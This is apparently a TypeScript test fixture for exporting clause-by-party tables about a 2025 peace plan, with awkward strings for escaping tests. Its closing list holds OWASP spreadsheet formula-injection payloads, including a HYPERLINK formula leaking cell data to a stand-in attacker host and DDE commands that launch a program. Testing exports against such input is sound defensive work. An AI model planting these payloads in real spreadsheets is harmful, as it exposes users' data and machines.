import type { TCellStyle, TExportTable } from "@/lib/domain/export/table";
import { getScoreLevel, type TScore } from "@/lib/domain/scale";

/** Cells that break naive writers: separators, quotes, line breaks, markup of every format, Japanese. */
export const AWKWARD_TEXTS = [
  'Security, "guarantees"',
  "line one\nline two\r\nline three\rend",
  "pipe | back\\slash *star* _under_ `tick` [link](x) <b>html</b> &amp;",
  "\\ { } $ & # ^ _ % ~ < > | [ ] -- --- ,, '' `` \"",
  "[starts with a bracket",
  "\nstarts with a line break",
  "ウクライナの領土保全（第21条）「安全保障」",
  "Zelensky — “no” to ceding Donbas; Ukraine’s €-denominated fund…",
];

const PARTIES = [
  { key: "ua", label: "Ukraine", labelJa: "ウクライナ" },
  { key: "ru", label: "Russia", labelJa: "ロシア" },
  { key: "us", label: "United States", labelJa: "米国" },
  { key: "eu", label: "EU", labelJa: "EU" },
];

const SCORES: TScore[][] = [
  [-2, 2, 1, -1],
  [0, null, 2, -2],
  [1, -1, null, 0],
];

/** The clause × party matrix as a view would build it: a label per party cell, the fill from the score. */
export function buildMatrixTable(lang: "en" | "ja" = "en"): TExportTable {
  const ja = lang === "ja";
  const styles: Partial<Record<string, TCellStyle>>[] = [];
  const rows = SCORES.map((scores, i) => {
    const row: Record<string, string | number | null> = {
      number: String(21 + i),
      heading: ja ? `第${21 + i}条：領土` : `Clause ${21 + i}: territory`,
      topics: ja ? "領土、安全保障" : "territory, security",
    };
    const style: Partial<Record<string, TCellStyle>> = {};
    PARTIES.forEach((party, p) => {
      const level = getScoreLevel(scores[p]);
      row[party.key] = ja ? level.labelJa : level.label;
      style[party.key] = level.key;
    });
    styles.push(style);
    return row;
  });
  return {
    title: ja ? "28項目和平案（2025年11月20日）：条項×当事者" : "28-point plan (2025-11-20): clauses × parties",
    lang,
    meta: [
      { key: "document", label: ja ? "文書" : "Document", value: "us-28-2025-11-20" },
      { key: "filters", label: ja ? "絞り込み" : "Filters", value: "topics=territory,security; coder=reference" },
      { key: "release", label: ja ? "データセット版" : "Dataset release", value: "2026-03" },
      { key: "exportedAt", label: ja ? "出力日時" : "Exported at", value: "2026-03-14T09:30:00Z" },
      {
        key: "citation",
        label: ja ? "引用方法" : "How to cite",
        value: 'Redlines (2026). "Clause × party matrix", dataset release 2026-03.',
      },
    ],
    columns: [
      { key: "number", label: ja ? "条項" : "Clause" },
      { key: "heading", label: ja ? "見出し" : "Heading" },
      { key: "topics", label: ja ? "論点" : "Topics" },
      ...PARTIES.map((p) => ({ key: p.key, label: ja ? p.labelJa : p.label, kind: "score" as const })),
    ],
    rows,
    cellStyles: styles,
  };
}

/** The version comparison: aligned pairs with a numeric confidence and a diff text full of awkward characters. */
export function buildCompareTable(): TExportTable {
  return {
    title: "28-point plan → 19-point plan",
    lang: "en",
    meta: [
      { key: "documents", label: "Documents", value: "us-28-2025-11-20 → geneva-19-2025-11-23" },
      { key: "exportedAt", label: "Exported at", value: "2026-03-14T09:30:00Z" },
    ],
    columns: [
      { key: "from", label: "From" },
      { key: "to", label: "To" },
      { key: "relation", label: "Relation" },
      { key: "confidence", label: "Confidence", kind: "number" },
      { key: "diff", label: "Changes" },
    ],
    rows: AWKWARD_TEXTS.map((diff, i) => ({
      from: String(i + 1),
      to: i === 3 ? null : `r${i + 1}`,
      relation: i === 3 ? "removed" : "modified",
      confidence: i === 3 ? null : -2 + i * 0.5,
      diff,
    })),
  };
}

/** Formula-injection payloads (OWASP) that a spreadsheet would run if they started a cell. */
export const INJECTION_TEXTS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-1+1",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
];
